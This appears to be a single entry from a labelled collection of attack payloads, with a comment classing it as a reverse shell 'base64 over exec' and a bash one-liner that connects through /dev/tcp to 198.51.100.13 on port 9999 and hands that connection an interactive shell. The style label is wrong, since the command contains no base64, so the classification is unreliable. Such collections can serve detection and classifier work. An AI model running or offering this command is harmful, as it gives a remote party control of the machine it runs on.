# class: reverse shell; style: base64 over exec
0<&196;exec 196<>/dev/tcp/198.51.100.13/9999; sh <&196 >&196 2>&196
